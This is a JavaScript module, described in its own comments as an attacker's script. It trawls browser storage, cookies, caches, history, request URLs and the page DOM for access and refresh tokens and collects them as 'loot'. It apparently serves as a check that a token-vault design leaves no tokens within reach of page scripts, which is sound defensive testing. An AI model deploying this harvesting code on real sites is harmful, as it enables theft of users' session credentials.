// An attacker's script: looks wherever a script of the page can for what could
// be an access or refresh token. The ID token is none: its audience is the
// application itself.

const read = (request) => new Promise((resolve, reject) => {
  request.onsuccess = () => resolve(request.result);
  request.onerror = () => reject(request.error);
});

const databases = async () => {
  const all = [];
  for (const { name } of await indexedDB.databases()) {
    const db = await read(indexedDB.open(name));
    for (const store of db.objectStoreNames) all.push(await read(db.transaction(store).objectStore(store).getAll()));
    db.close();
  }
  return all;
};

const cached = async () => {
  const all = [];
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const response of await cache.matchAll()) all.push(response.url, await response.text());
  }
  return all;
};

const looks = {
  localStorage: () => ({ ...localStorage }),
  sessionStorage: () => ({ ...sessionStorage }),
  IndexedDB: databases,
  'readable cookies': () => [document.cookie],
  'service-worker caches': cached,
  'the address and the history': () => [location.href, history.state, ...(window.navigation?.entries() ?? []).map((e) => e.url)],
  'addresses of all requests': () => performance.getEntries().map((e) => e.name),
  'the document': () => document.documentElement.outerHTML,
};

// Random strings of some length, and JWTs but for ID tokens.
const tokenLike = /[A-Za-z0-9_-]+\.[A-Za-z0-9_-]{20,}\.[A-Za-z0-9_-]{20,}|[A-Za-z0-9_~+-]{40,}/g;
const isIDToken = (s) => {
  try { return !JSON.parse(atob(s.split('.')[1].replace(/-/g, '+').replace(/_/g, '/'))).scope; } catch { return false; }
};
// An authorization code has been redeemed when this runs, and only the vault can.
const spent = /\b(?:code|state)=[^&"\\]+/g;
const named = /"(?:access_token|refresh_token)\\?":\s*\\?"([\w.~+/=-]+)/g;

export async function lookEverywhere() {
  const loot = [];
  for (const [place, look] of Object.entries(looks)) {
    const text = JSON.stringify(await look()).replace(spent, '');
    for (const [value] of text.matchAll(tokenLike)) if (!isIDToken(value)) loot.push({ place, value });
    for (const [, value] of text.matchAll(named)) loot.push({ place, value });
  }
  return { places: Object.keys(looks), loot };
}
